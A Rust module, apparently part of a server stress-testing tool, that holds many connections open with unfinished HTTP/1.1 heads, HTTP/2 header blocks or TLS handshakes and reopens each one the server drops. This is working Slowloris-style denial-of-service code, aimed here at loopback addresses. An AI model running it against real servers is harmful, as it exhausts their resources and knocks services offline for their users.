//! Connections that say little or nothing and stay open. One that the server ends is opened again.

use std::net::Ipv4Addr;
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep_until, timeout, timeout_at};

use super::plan::Plan;
use crate::attack::{OPENED_A_SECOND, Source};
use crate::client::Stream;
use crate::outcome::Outcome;

/// How many connections are opened in a second once each was open.
const REOPENED_A_SECOND: u32 = 300;

/// How long an attacker waits for its connection, and for the server to take its greeting.
const PATIENCE: Duration = Duration::from_secs(10);

/// The size of what never ends, in bytes.
const GREETING_BYTES: usize = 60_000;

/// What an attacker sends on its connection.
#[derive(Clone, Copy, Debug)]
pub(super) enum Greeting {
    Nothing,
    /// A head of HTTP/1.1 that does not end.
    HalfHead,
    /// A header block of HTTP/2 that does not end.
    HalfHeaderBlock,
    /// A TLS handshake that does not end.
    HalfHandshake,
}

/// Holds this many connections until the end.
pub(super) async fn hold(plan: Plan, greeting: Greeting, connections: usize, source: Source) {
    let pace = Arc::new(Pace::new(connections));
    let bytes: Arc<[u8]> = greeting.bytes().into();
    let mut attackers = JoinSet::new();
    for number in 0..connections {
        let (mut plan, pace, bytes) = (plan.clone(), Arc::clone(&pace), Arc::clone(&bytes));
        plan.client.from = source.address(number);
        attackers.spawn(async move {
            let encrypted = !matches!(greeting, Greeting::HalfHandshake);
            loop {
                let turn = pace.turn();
                if turn >= plan.end {
                    return sleep_until(plan.end).await;
                }
                sleep_until(turn).await;
                let held = timeout_at(plan.end, hold_one(&plan, encrypted, &bytes)).await;
                if held.is_err() {
                    return;
                }
                plan.tally.ended();
            }
        });
    }
    while attackers.join_next().await.is_some() {}
}

/// Returns when the server has ended the connection, or refuses it.
async fn hold_one(plan: &Plan, encrypted: bool, greeting: &[u8]) -> Outcome<()> {
    let mut stream: Box<dyn Stream> = if encrypted {
        timeout(PATIENCE, plan.client.connect()).await??
    } else {
        Box::new(timeout(PATIENCE, plan.client.tcp()).await??)
    };
    let _open = plan.tally.opened();
    timeout(PATIENCE, async {
        stream.write_all(greeting).await?;
        stream.flush().await
    })
    .await??;
    let mut buffer = [0; 256];
    while stream.read(&mut buffer).await? > 0 {}
    Ok(())
}

impl Source {
    fn address(self, number: usize) -> Option<Ipv4Addr> {
        let Self::Addresses(addresses) = self else { return None };
        let last = u8::try_from(number % usize::from(addresses)).unwrap_or(0);
        Some(Ipv4Addr::new(127, 0, 1, last.saturating_add(1)))
    }
}

/// When the next connection may be opened.
struct Pace {
    next: Mutex<(Instant, usize)>,
    first: usize,
}

impl Pace {
    fn new(first: usize) -> Self {
        Self { next: Mutex::new((Instant::now(), 0)), first }
    }

    fn turn(&self) -> Instant {
        let mut next = self.next.lock().unwrap_or_else(PoisonError::into_inner);
        let (due, opened) = *next;
        let turn = due.max(Instant::now());
        let a_second = if opened < self.first { OPENED_A_SECOND } else { REOPENED_A_SECOND };
        *next = (turn + Duration::from_secs(1) / a_second, opened + 1);
        turn
    }
}

impl Greeting {
    fn bytes(self) -> Vec<u8> {
        let mut bytes = match self {
            Self::Nothing => return Vec::new(),
            Self::HalfHead => {
                b"GET /data/?limit=10 HTTP/1.1\r\nhost: localhost\r\nx-filler: ".to_vec()
            }
            Self::HalfHeaderBlock => return half_header_block(),
            Self::HalfHandshake => return half_handshake(),
        };
        bytes.resize(GREETING_BYTES, b'a');
        bytes
    }
}

/// The preface and the settings of a client (RFC 9113, sections 3.4 and 6.5), and a request whose only field has a value
/// that is longer than what comes of it.
fn half_header_block() -> Vec<u8> {
    const FRAME: usize = 16_384;
    const SETTINGS: u8 = 4;
    const HEADERS: u8 = 1;
    const CONTINUATION: u8 = 9;
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    frame(&mut bytes, SETTINGS, 0, &[]);
    // A literal field without indexing (RFC 7541, section 6.2.2): its name, and a value of 65,000 bytes.
    let mut block = vec![0, 1, b'x', 0x7f];
    let mut length = 65_000 - 0x7f;
    while length >= 0x80 {
        block.push(u8::try_from(length % 0x80).unwrap_or(0) | 0x80);
        length /= 0x80;
    }
    block.push(u8::try_from(length).unwrap_or(0));
    block.resize(GREETING_BYTES, b'a');
    for (number, part) in block.chunks(FRAME).enumerate() {
        frame(&mut bytes, if number == 0 { HEADERS } else { CONTINUATION }, 1, part);
    }
    bytes
}

fn frame(bytes: &mut Vec<u8>, kind: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    bytes.extend_from_slice(&length[1..]);
    bytes.extend_from_slice(&[kind, 0]);
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
}

/// A client's first message of 65,000 bytes (RFC 8446, sections 4 and 5.1), of which fewer come.
fn half_handshake() -> Vec<u8> {
    const RECORD: usize = 16_384;
    const CLIENT_HELLO: u8 = 1;
    let mut message = vec![CLIENT_HELLO, 0];
    message.extend_from_slice(&65_000_u16.to_be_bytes());
    message.resize(GREETING_BYTES, 0);
    let mut bytes = Vec::with_capacity(GREETING_BYTES + 64);
    for part in message.chunks(RECORD) {
        bytes.extend_from_slice(&[22, 3, 1]);
        bytes.extend_from_slice(&u16::try_from(part.len()).unwrap_or(0).to_be_bytes());
        bytes.extend_from_slice(part);
    }
    bytes
}
